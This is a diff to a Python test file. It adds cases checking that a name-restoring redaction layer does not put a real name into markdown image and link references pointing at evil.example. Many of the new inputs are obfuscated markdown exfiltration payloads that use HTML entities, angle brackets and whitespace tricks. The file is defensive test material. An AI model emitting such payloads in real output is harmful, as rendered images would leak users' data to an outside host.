@@ -56,6 +56,17 @@ def test_a_token_comes_back_in_any_case(spell):
         "![x](/p?n={})",
         '<img src="https://evil.example/{}">',
         "<https://evil.example/a {}>",
+        "![x](<//evil.example/) {}>)",
+        "[x]: <//evil.example/ {}>\n\n![a][x]",
+        "[x]: &#47;&#47;evil.example&#47;{}\n\n![a][x]",
+        "[x]: https&colon;&sol;&sol;evil.example&sol;{}\n\n![a][x]",
+        "[x]: <https&colon;&sol;&sol;evil.example&sol; {}>\n\n![a][x]",
+        "[x]:\n  p?{}\n\n![a][x]",
+        "[x]: &sol;&sol;{}&period;evil&period;example\n\n![a][x]",
+        "[x]: <{}>\n\n![a][x]",
+        "[x]: &sol;&sol;evil.example&sol;\\\t{}\n\n![a][x]",
+        "![a](<&sol;&sol;evil.example&sol;\\\n){}>)",
+        '[x]: &sol;&sol;evil.example&sol;"{}\n\n![a][x]',
         "//evil.example/{}",
         "evil.example/{}",
         "{}\u3002evil.example",
@@ -73,6 +84,21 @@ def test_a_token_in_an_address_stays_one(text):
         assert restored(given) == "evilIda"
     else:
         assert restored(given) == given
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[Speaker 1]: Good day, {}", "[a]: b\n{}", "[a](<b c>)\n{}", "[a](b) {}", "a[1]; {}", "[a] ({})", "[a] : {}"],
+)
+def test_beside_a_link_it_comes_back(text):
+    assert restored(text.format(OTHER)) == text.format("Ida")
+
+
+def test_in_json_a_link_ends_with_its_string():
+    text = '{"link": "[a]: <.b c", "who": "%s"}'
+    assert restored(text % OTHER, channel=Channel.READER_JSON) == text % "Ida"
+    text = f'{{"link": "[a](<b \\" c {OTHER}"}}'
+    assert restored(text, channel=Channel.READER_JSON) == text
 
 
 def test_an_address_that_comes_back_takes_nobody_along():
